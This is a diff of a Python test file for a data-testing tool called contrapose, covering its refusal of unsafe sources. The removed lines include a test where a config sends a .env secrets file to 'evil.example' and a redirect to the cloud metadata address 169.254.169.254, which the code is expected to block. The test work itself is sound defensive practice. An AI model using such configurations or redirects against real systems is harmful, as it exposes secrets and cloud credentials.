@@ -2,15 +2,11 @@
 
 from __future__ import annotations
 
-import http.server
-import os
 import socket
-from collections.abc import Iterator
-from functools import partial
 from pathlib import Path
-from threading import Thread
 
 import pytest
+from small_server import answering
 
 from contrapose.flows.orchestration.form import read_form
 from contrapose.flows.orchestration.options import resolve_suite
@@ -18,7 +14,7 @@ from contrapose.flows.run_context import resolve_run
 from contrapose.tasks.config.permissions import APPS, DATA, OUTPUT, VARIABLES, Permissions, allow, named_by_user
 from contrapose.tasks.config.plan import plans
 from contrapose.tasks.config.run_config import RunConfig
-from contrapose.tasks.core.errors import ConfigError, ContraposeError, ModelError
+from contrapose.tasks.core.errors import ConfigError, ContraposeError
 from contrapose.tasks.load import opening
 
 
@@ -152,19 +148,6 @@ def test_a_configuration_is_refused_for_all_that_it_names() -> None:
     assert len(plans(config)) == 2
 
 
-def test_a_suite_of_somebody_else_sends_no_local_file_away(project: Path) -> None:
-    """The attack: a file of secrets as data, and an application behind an address as the model."""
-    (project / "suite.yaml").write_text(
-        "model: app/http://evil.example/take\ndata: {source: .env, format: csv}\n"
-        "tests: {sensitivity: {add_negation: {}}}\n"
-    )
-    config, _ = resolve_suite("suite.yaml", {})
-    with pytest.raises(ConfigError, match=r"data.source: \.env may not be read"):
-        plans(config)
-    with pytest.raises(ModelError, match=r"evil.example/take may not be asked here; .* Set CONTRAPOSE_APPS="):
-        Permissions.here().refuse_app("http://evil.example/take")
-
-
 def test_what_the_command_line_names_is_the_users_own(project: Path, tmp_path: Path) -> None:
     (project / "suite.yaml").write_text("data: ../other.csv\ntests: {sensitivity: {add_negation: {}}}\n")
     for source in ("../outside.csv", str(tmp_path / "outside.csv"), ".env", "s3://bucket/rows.csv"):
@@ -200,35 +183,16 @@ def test_a_text_with_the_signs_of_a_list_lists_nothing_else() -> None:
     }
 
 
-class Redirect(http.server.BaseHTTPRequestHandler):
-    def do_GET(self) -> None:
-        self.send_response(302)
-        self.send_header("Location", "http://169.254.169.254/latest/rows.csv")
-        self.end_headers()
-
-    def do_HEAD(self) -> None:
-        self.do_GET()
-
-    def log_message(self, *_: object) -> None:
-        pass
-
-
-@pytest.fixture
-def redirecting() -> Iterator[str]:
-    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Redirect) as server:
-        Thread(target=partial(server.serve_forever, 0.05), daemon=True).start()
-        yield f"http://127.0.0.1:{server.server_address[1]}/rows.csv"
-        server.shutdown()
-
-
 def refused(source: str) -> str:
     with pytest.raises(ContraposeError) as caught, opening.open_source(source):
         pass
     return str(caught.value)
 
 
-def test_a_redirect_to_a_link_local_address_is_not_followed(redirecting: str) -> None:
-    assert "169.254.169.254 is where a cloud's metadata service is" in refused(redirecting)
+def test_a_redirect_to_a_link_local_address_is_not_followed() -> None:
+    metadata = {"Location": "http://169.254.169.254/latest/rows.csv"}
+    with answering(lambda asked: asked.reply(status=302, headers=metadata)) as url:
+        assert "169.254.169.254 is where a cloud's metadata service is" in refused(f"{url}/rows.csv")
 
 
 def test_a_name_that_leads_to_a_link_local_address_is_not_asked(monkeypatch: pytest.MonkeyPatch) -> None:
@@ -239,17 +203,6 @@ def test_a_name_that_leads_to_a_link_local_address_is_not_asked(monkeypatch: pyt
 
     monkeypatch.setattr(socket, "getaddrinfo", looked_up)
     assert "169.254.1.1 is link-local" in refused("http://inner.example/rows.csv")
-
-
-def test_a_pipe_is_no_data(project: Path) -> None:
-    os.mkfifo(project / "pipe.csv")
-    assert "this is a pipe or a device; expected a file" in refused("pipe.csv")
-
-
-def test_a_pipe_is_no_suite(project: Path) -> None:
-    os.mkfifo(project / "suite.yaml")
-    with pytest.raises(ConfigError, match="a pipe, a socket or a device"):
-        resolve_suite("suite.yaml", {})
 
 
 @pytest.mark.parametrize(
